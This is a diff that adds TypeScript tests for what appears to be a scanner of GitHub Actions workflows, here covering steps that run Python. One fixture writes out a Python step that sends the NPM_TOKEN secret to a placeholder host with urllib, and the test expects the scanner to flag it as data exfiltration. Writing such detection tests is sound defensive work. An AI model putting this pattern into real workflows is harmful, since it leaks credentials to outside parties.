@@ -444,3 +444,37 @@ jobs:
     expect(analyzeWorkflow(wf, '.github/workflows/x.yml').map((h) => h.rule)).toEqual(['script.env-exfil']);
   });
 });
+
+describe('steps whose shell is Python', () => {
+  const wf = (env: string, code: string[]) =>
+    [
+      'on: [push]',
+      'jobs:',
+      '  b:',
+      '    runs-on: ubuntu-latest',
+      '    steps:',
+      '      - shell: python',
+      ...(env ? ['        env:', `          ${env}`] : []),
+      '        run: |',
+      ...code.map((l) => `          ${l}`),
+    ].join('\n');
+  it('a secret handed to the step and sent by urllib is a secret sent out', () => {
+    const hits = analyzeWorkflow(
+      wf('T: ${{ secrets.NPM_TOKEN }}', [
+        'import os, urllib.request',
+        'urllib.request.urlopen("https://ci-insights.example.dev/t", data=os.environ["T"].encode())',
+      ]),
+    );
+    expect(hits.some((h) => h.threat_type === 'data_exfiltration' && h.confidence >= 0.8)).toBe(true);
+  });
+  it('a Python step posting a coverage figure with no secret in its environment is quiet', () => {
+    expect(
+      analyzeWorkflow(
+        wf('', [
+          'import os, urllib.request',
+          'urllib.request.urlopen("https://ci-insights.example.dev/c", data=os.environ.get("COVERAGE", "0").encode())',
+        ]),
+      ),
+    ).toEqual([]);
+  });
+});
